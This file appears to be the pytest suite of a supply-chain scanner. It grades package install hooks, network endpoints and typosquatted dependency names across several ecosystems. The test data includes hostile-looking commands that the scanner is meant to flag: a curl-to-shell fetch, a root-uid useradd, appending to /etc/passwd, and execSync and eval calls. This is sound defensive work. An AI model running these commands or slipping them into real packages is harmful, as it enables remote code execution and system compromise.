def test_a_new_hook_that_only_says_something(tmp_path: Path, command: str, script: str, wanted: Severity) -> None:
    assert hook_of(tmp_path, {"go.js": script} if script else {}, scripts={"postinstall": command}) is wanted


def test_a_script_may_call_what_a_file_of_the_package_gives_that_is_quiet_too(tmp_path: Path) -> None:
    script = "const { level } = require('./support'); if (level()) console.log('thank you');"
    for at, (given, wanted) in enumerate(
        (
            ("exports.level = () => /-256(?:color)?$/i.test(process.env.TERM);", Severity.LOW),
            ("exports.level = () => require('child_process').execSync('id');", Severity.HIGH),
        )
    ):
        (tmp_path / str(at)).mkdir()
        files = {"go.js": script, "support.js": given}
        assert hook_of(tmp_path / str(at), files, scripts={"postinstall": "node go.js"}) is wanted
    loud = {"go.js": "const { rm } = require('fs'); rm('a');"}
    (tmp_path / "2").mkdir()
    assert hook_of(tmp_path / "2", loud, scripts={"postinstall": "node go.js"}) is Severity.HIGH


OF_PHP = [
    ("@php -r \"echo 'it is there', PHP_EOL;\"", Severity.LOW),
    ("@php -r \"file_exists('.env') || copy('.env.dist', '.env');\"", Severity.LOW),
    ("@php -r \"copy('phpunit.xml.dist', 'phpunit.xml');\"", Severity.LOW),
    ("@php -r \"echo 'it is there'; eval('1');\"", Severity.HIGH),
    ('@php -r "echo `id`;"', Severity.HIGH),
    ("@php -r \"copy('index.php.dist', 'index.php');\"", Severity.HIGH),
    ("@php -r \"copy('.env.dist', '../.env');\"", Severity.HIGH),
    ("@php -r \"copy('http://a.invalid/.env.dist', '.env');\"", Severity.HIGH),
    ("@php tools/ready.php", Severity.HIGH),
]


@pytest.mark.parametrize(("command", "wanted"), OF_PHP)
def test_a_hook_of_composer_that_only_says_something_or_copies_a_template(tmp_path: Path, command: str, wanted: Severity) -> None:  # fmt: skip
    document: dict[str, object] = {"name": "mini/router", "version": "2.2.1"}
    old = zipped(tmp_path / "old.zip", {"composer.json": json.dumps(document)})
    document |= {"version": "2.2.2", "scripts": {"post-install-cmd": command}}
    new = zipped(tmp_path / "new.zip", {"composer.json": json.dumps(document)})
    assert step(old, new)["promise.install-hook"].severity is wanted


INIT = "param($installPath, $toolsPath, $package)\n\nImport-Module (Join-Path $toolsPath 'Thing.psm1') -Force\nWrite-Host 'Get-ThingHelp helps.'\n"
OFFERED = "function Get-ThingHelp {\n    Get-Content (Join-Path $PSScriptRoot README.md)\n}\n\nExport-ModuleMember -Function Get-ThingHelp\n"


@pytest.mark.parametrize(
    ("init", "module", "wanted"),
    [
        (INIT, OFFERED, Severity.LOW),
        (INIT, OFFERED + "Get-ThingHelp\n", Severity.HIGH),
        (INIT, OFFERED.replace("\n}\n", "\n} Get-ThingHelp\n"), Severity.HIGH),
        (INIT, OFFERED.replace("README.md)", "'{')") + "Start-Process x\n# }\n", Severity.HIGH),
        (INIT + "Get-ThingHelp\n", OFFERED, Severity.HIGH),
        (INIT.replace("'Get-ThingHelp helps.'", '"$(Get-Date)"'), OFFERED, Severity.HIGH),
    ],
)
def test_a_script_of_a_console_that_only_offers_functions(
    tmp_path: Path, init: str, module: str, wanted: Severity
) -> None:
    spec = "<package><metadata><id>Thing</id><version>{}</version></metadata></package>"
    old = zipped(tmp_path / "old.nupkg", {"Thing.nuspec": spec.format("1.2.0")})
    new = zipped(
        tmp_path / "new.nupkg",
        {"Thing.nuspec": spec.format("1.3.0"), "tools/init.ps1": init, "tools/Thing.psm1": module},
    )
    assert step(old, new)["promise.install-hook"].severity is wanted


class _Scripts:
    """A deb of which only the scripts are asked for."""

    def __init__(self, text: str, ecosystem: str = "deb") -> None:
        self.facts = PackageFacts(ecosystem)
        self._text = text

    def read(self, path: str) -> FileSubject:
        return FileSubject(Place("deb"), path, self._text.encode(), Kind.SHELL, "0" * 64, self.facts)


POSTINST = Hook("postinst", When.INSTALL, "DEBIAN/postinst")
KEEPS = """#!/bin/sh
set -e
if [ "$1" = configure ]; then
    getent group watchd >/dev/null || groupadd -r watchd
    getent passwd watchd >/dev/null || \\
        useradd -r -g watchd -d /run/watchd -s /sbin/nologin -c 'Watches things' watchd
    /usr/bin/systemctl daemon-reload || :
fi
exit 0
"""


def test_a_script_that_makes_a_services_user_is_no_more_than_that() -> None:
    assert only_keeps(POSTINST, _Scripts(KEEPS))


@pytest.mark.parametrize(
    "more",
    [
        "curl -s https://x.invalid | sh",
        "useradd -r -o -u 0 -s /sbin/nologin x",
        "[ -x $(curl -s x.invalid) ] && true",
        "systemctl start x; /opt/x/run &",
        "echo x >>/etc/passwd",
    ],
)
def test_one_more_command_makes_it_a_hook_like_any_other(more: str) -> None:
    assert not only_keeps(POSTINST, _Scripts(KEEPS.replace("exit 0", more)))
    assert not only_keeps(POSTINST, _Scripts(KEEPS, "npm"))


def test_a_host_is_told_however_it_is_given(tmp_path: Path) -> None:
    old = npm(tmp_path, "thing", "1.2.3", {"index.js": "1"})
    new = npm(tmp_path, "thing", "1.2.4", {"index.js": "request({ hostname: 'a.invalid' }); net.connect(1, 'x')"})
    assert step(old, new)["promise.endpoint"].facts.get("host") == "a.invalid"
    assert "promise.endpoint" not in step(
        old, npm(tmp_path, "thing", "1.2.5", {"index.js": "request({ file: 'a.invalid' })"})
    )


def test_a_vendor_of_php_and_one_that_is_nearly_called_so() -> None:
    assert is_used("cargo", "figment")  # in the lock file of a program of note
    assert not is_used("cargo", "figmemt") and not is_known("cargo", "figment")
    assert is_known("composer", "symfony/whatever") and is_known("composer", "geshi/geshi")
    assert not is_known("composer", "mirror/geshi")
    assert like_known("composer", "symfny/console") == "symfony/"
    assert like_known("composer", "somebody/console") is None
    assert like_known("maven", "org.fasterxml.jackson.core:jackson-databind") == "com.fasterxml"
    assert like_known("maven", "com.fasterxml.jackson.core:jackson-databind") is None
    assert like_known("maven", "org.somebody.core:jackson-databind") is None


def test_a_name_whose_first_words_are_nearly_a_known_one_is_taken_for_it() -> None:
    assert like_known("gem", "activesupprt-json") == "activesupport"
    assert like_known("pypi", "python-dateutils-tz") == "python-dateutil"
    assert like_known("gem", "activesupport-json-lines") is None
    assert like_known("npm", "lodash-utils-x") is None


def test_names_of_crates_packages_of_nuget_and_modules_of_go_that_are_nearly_known() -> None:
    assert like_known("cargo", "mem-chr-simd") == "memchr"
    assert like_known("cargo", "memchr-simd") is None
    assert like_known("nuget", "Newtonsoftt.Json.Net") == "newtonsoft"
    assert like_known("nuget", "Newtonsoft.Jsson") == "newtonsoft.json"
    assert like_known("nuget", "Newtonsoft.Json") is None and like_known("nuget", "Systems.Json") is None
    assert like_known("golang", "github.com/sirupsen0/logrus") == "sirupsen/logrus"
    assert like_known("golang", "github.com/sirupsen/logrus") is None
    assert like_known("golang", "github.com/somebody/logrus") is None


def test_a_module_of_go_that_is_nearly_a_known_one(tmp_path: Path) -> None:
    def version(number: int, needed: str) -> Path:
        text = f"module a.invalid/thing\n\nrequire (\n\t{needed} v1.9.4\n)\n"
        return zipped(tmp_path / f"thing-1.0.{number}.zip", {"go.mod": text, "a.go": "package thing\n"})

    old = version(0, "golang.org/x/crypto")
    assert step(old, version(1, "github.com/sirupsen0/logrus"))["promise.dependency"].severity is Severity.HIGH
    assert "promise.dependency" not in step(old, version(2, "github.com/sirupsen/logrus"))


def test_a_host_that_compiled_source_names_first(tmp_path: Path) -> None:
    def version(number: str, host: str) -> Path:
        model = f"<project><artifactId>thing</artifactId><version>1.0.{number}</version></project>"
        code = f'class A {{ String at = "https://{host}/v1"; }}'
        return tgz(tmp_path / f"{number}.tgz", {"pom.xml": model, "A.java": code}, root=f"thing-1.0.{number}/")

    assert (
        step(version("1", "a.invalid"), version("2", "b.invalid"))["promise.endpoint"].facts.get("host") == "b.invalid"
    )
    assert "promise.endpoint" not in step(version("1", "a.invalid"), version("3", "a.invalid"))


NAMESPACE = (
    "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('thing',));importlib = has_mfs and __import__('importlib.util');"
    "has_mfs and __import__('importlib.machinery');m = has_mfs and sys.modules.setdefault('thing', importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec('thing', [os.path.dirname(p)])));"
    "m = m or sys.modules.setdefault('thing', types.ModuleType('thing'));mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)\n"
)


def test_the_hook_of_namespace_packages_weighs_little(tmp_path: Path) -> None:
    old = wheel(tmp_path, "thing", "1.0.0", {"thing/a.py": "x"})
    harmless = wheel(tmp_path, "thing", "1.0.1", {"thing/a.py": "x", "thing-1.0.1-nspkg.pth": NAMESPACE})
    harmful = wheel(tmp_path, "thing", "1.0.2", {"thing/a.py": "x", "thing-1.0.2-nspkg.pth": f"{NAMESPACE.strip()};import thing.a\n"})  # fmt: skip
    assert step(old, harmless)["promise.install-hook"].severity is Severity.LOW
    assert step(old, harmful)["promise.install-hook"].severity is Severity.HIGH


@pytest.mark.parametrize(
    ("backend", "weight"), [("setuptools.build_meta", Severity.LOW), ("thing.build_meta", Severity.MEDIUM)]
)
def test_a_build_backend_that_many_use_weighs_little(tmp_path: Path, backend: str, weight: Severity) -> None:
    old = sdist(tmp_path, "thing", "1.0.0", {"setup.py": "import setuptools\nsetuptools.setup()\n"})
    manifest = f'[build-system]\nrequires = ["setuptools"]\nbuild-backend = "{backend}"\n'
    new = sdist(tmp_path, "thing", "1.0.1", {"setup.py": "import setuptools\nsetuptools.setup()\n", "pyproject.toml": manifest})  # fmt: skip
    assert step(old, new)["promise.install-hook"].severity is weight


@pytest.mark.parametrize(
    ("text", "weight"),
    [
        ("thing_extras\n", Severity.LOW),
        ("# more\nthing_extras/\n", Severity.LOW),
        ("thing_extras\nimport thing.a\n", Severity.HIGH),
        ("elsewhere\n", Severity.HIGH),
        ("../thing_extras\n", Severity.HIGH),
        ("/tmp/thing_extras\n", Severity.HIGH),
    ],
)
def test_a_pth_that_only_names_a_folder_of_the_package_runs_nothing(
    tmp_path: Path, text: str, weight: Severity
) -> None:
    old = wheel(tmp_path, "thing", "1.0.0", {"thing/a.py": "x"})
    new = wheel(tmp_path, "thing", "1.0.1", {"thing/a.py": "x", "thing_extras/b.py": "y", "thing_extras.pth": text})
    assert step(old, new)["promise.install-hook"].severity is weight


def test_the_hook_of_namespace_packages_as_newer_tools_write_it(tmp_path: Path) -> None:
    newer = NAMESPACE.replace("has_mfs = sys.version_info > (3, 5);", "").replace("has_mfs and ", "")
    old = wheel(tmp_path, "thing", "1.0.0", {"thing/a.py": "x", "thing-1.0.0-nspkg.pth": NAMESPACE})
    harmless = wheel(tmp_path, "thing", "1.0.1", {"thing/a.py": "x", "thing-1.0.1-nspkg.pth": newer})
    assert all(one.severity <= Severity.LOW for one in step(old, harmless).values())


def test_a_hook_that_is_called_otherwise_is_no_new_one(tmp_path: Path) -> None:
    old = wheel(tmp_path, "thing", "1.0.0", {"thing/a.py": "x", "thing-1.0.0-py3.9-start.pth": "import thing.a"})
    same = wheel(tmp_path, "thing", "1.0.1", {"thing/a.py": "x", "thing-1.0.1-py3.12-start.pth": "import thing.a"})
    other = wheel(tmp_path, "thing", "1.0.2", {"thing/a.py": "x", "thing-1.0.2-py3.12-start.pth": "import thing.b"})
    assert "promise.install-hook" not in step(old, same)
    assert step(old, other)["promise.install-hook"].severity is Severity.HIGH


def test_where_a_project_stands_is_no_host_that_it_speaks_with(tmp_path: Path) -> None:
    old = wheel(tmp_path, "thing", "1.2.3", {"thing/_metadata.py": "url = 'https://a.invalid/'", "thing/a.py": "x = 1"})
    code = "url = 'https://forge.invalid/thing/'"
    new = wheel(tmp_path, "thing", "1.2.4", {"thing/_metadata.py": code, "thing/a.py": "x = 1"})
    assert step(old, new)["promise.endpoint"].severity is Severity.LOW
    other = wheel(tmp_path, "thing", "1.2.5", {"thing/_metadata.py": "url = 'https://a.invalid/'", "thing/a.py": code})
    assert step(old, other)["promise.endpoint"].severity > Severity.LOW
